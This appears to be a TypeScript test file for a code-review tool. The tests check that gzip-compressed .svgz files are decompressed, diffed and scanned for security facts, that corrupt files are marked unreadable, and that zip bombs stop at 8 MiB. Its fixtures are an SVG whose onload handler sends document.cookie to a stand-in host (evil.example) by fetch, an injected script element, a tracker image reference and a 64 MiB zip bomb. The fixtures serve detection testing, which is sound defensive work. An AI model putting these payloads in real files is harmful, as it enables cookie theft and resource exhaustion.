/**
 * A `.svgz` (an SVG compressed with gzip) is read as the SVG inside it:
 * gunzipped from git's bytes, diffed, and shown cut short with its security
 * facts, where it used to be skipped as binary. A corrupt one is named
 * unreadable, and a zip bomb stops at 8 MiB out and is over the read limit:
 * neither is ever skipped as binary.
 */
import { gzipSync } from "node:zlib";
import { afterEach, describe, expect, it } from "vitest";
import { planChunks } from "../../src/review/codeReview/chunks.js";
import { reviewFilePolicy } from "../../src/review/codeReview/filePolicy.js";
import { unshownBudget } from "../../src/review/codeReview/pieces.js";
import { readFileDiffs } from "../../src/review/codeReview/readDiff.js";
import { TempRepo } from "./support/tempRepo.js";

const repos: TempRepo[] = [];
afterEach(() => {
  for (const repo of repos.splice(0)) repo.cleanup();
});

const ICON = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24">\n<path d="M0 0h24v24H0z"/>\n</svg>\n';
const HOSTILE =
  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24" onload="fetch(\'https://evil.example/?c=\'+document.cookie)">\n<path d="M0 0h24v24H0z"/>\n<script>alert(document.domain)</script>\n</svg>\n';

/** A base commit with `base` at `path` (or none), a head commit with `head`, read as the review reads them. */
async function diffOf(path: string, base: Buffer | undefined, head: Buffer) {
  const repo = TempRepo.create();
  repos.push(repo);
  repo.write("README.md", "# r\n");
  if (base) repo.write(path, base);
  const baseSha = repo.commit("base");
  repo.write(path, head);
  const headSha = repo.commit("head");
  const files = await readFileDiffs(repo.client(), `${baseSha}..${headSha}`);
  return files.find((f) => f.path === path)!;
}

const policy = reviewFilePolicy({ withheld: () => undefined });
const shown = (file: Awaited<ReturnType<typeof diffOf>>) => planChunks([file], { chunkTokens: 24_000, maxChunks: 20, policy });

describe("a .svgz is reviewed as the SVG inside it", () => {
  it("an added one: its lines decompressed, with its script and event handler as facts", async () => {
    const file = await diffOf("assets/icon.svgz", undefined, gzipSync(HOSTILE));
    expect(file).toMatchObject({ binary: false, additions: 4, encodingNote: "gunzipped from .svgz" });
    expect(file.patch).toContain("+<script>alert(document.domain)</script>");
    const plan = shown(file);
    expect(plan.skipped).toEqual([]);
    const diff = plan.chunks[0]!.diff;
    expect(diff).toContain("### assets/icon.svgz — added, +4 −0 [gunzipped from .svgz]");
    expect(diff).toContain("- line 1: event handler attribute: `onload=\"fetch('https://evil.example/?c='+document.cookie)\"`");
    expect(diff).toContain("- line 3: script element: `<script>`");
  });

  it("a changed one: the facts of the lines it adds, none of the lines it keeps", async () => {
    const file = await diffOf("icon.svgz", gzipSync(ICON), gzipSync(ICON.replace("</svg>", '<image href="https://tracker.example/p.png"/>\n</svg>')));
    expect(file).toMatchObject({ binary: false, additions: 1, deletions: 0 });
    const diff = shown(file).chunks[0]!.diff;
    expect(diff).toContain('- line 3: reference outside the document: `href="https://tracker.example/p.png"`');
    expect(diff).not.toContain("script element");
  });

  it("a corrupt one is unreadable, not binary: named as not reviewed, none of its bytes shown", async () => {
    const corrupt = Buffer.concat([gzipSync(HOSTILE).subarray(0, 10), Buffer.from([0, 0xff, 0x13, 0x37, 0, 1, 2, 3])]);
    const file = await diffOf("icon.svgz", undefined, corrupt);
    expect(file).toMatchObject({ binary: false, unreadable: true, additions: 0 });
    expect(file.encodingNote).toMatch(/^\.svgz: not a valid gzip stream \(/);
    expect(file.patch).not.toMatch(/^@@/m);
    expect(shown(file).skipped).toEqual([]);
  });

  it("an untracked one (--worktree) is read the same way; a corrupt untracked one is unreadable, not binary", async () => {
    const repo = TempRepo.create();
    repos.push(repo);
    repo.write("README.md", "# r\n");
    repo.commit("base");
    repo.write("new.svgz", gzipSync(HOSTILE));
    repo.write("broken.svgz", Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 0xff, 0xff, 0, 0x13]));
    const files = await readFileDiffs(repo.client(), "worktree");
    const added = files.find((f) => f.path === "new.svgz")!;
    expect(added).toMatchObject({ binary: false, additions: 4, encodingNote: "head: gunzipped from .svgz" });
    expect(shown(added).chunks[0]!.diff).toContain("- line 3: script element: `<script>`");
    const broken = files.find((f) => f.path === "broken.svgz")!;
    expect(broken).toMatchObject({ binary: false, unreadable: true, additions: 0 });
    expect(broken.encodingNote).toMatch(/^head: \.svgz: not a valid gzip stream \(/);
  });

  it("a zip bomb stops at 8 MiB out: over the read limit, never held, never skipped as binary", async () => {
    const bomb = gzipSync(Buffer.alloc(64 * 1024 * 1024, " "));
    expect(bomb.length).toBeLessThan(128 * 1024);
    const file = await diffOf("bomb.svgz", undefined, bomb);
    expect(file).toMatchObject({ binary: false, tooLarge: true, encodingNote: ".svgz: more than 8 MiB once gunzipped; not decompressed further" });
    const plan = shown(file);
    expect(plan.skipped).toEqual([]);
    expect(plan.overBudget).toEqual([{ path: "bomb.svgz", reason: "over budget", budget: unshownBudget(file, 24_000) }]);
    expect(unshownBudget(file, 24_000).kind).toBe("read_limit");
  });
});
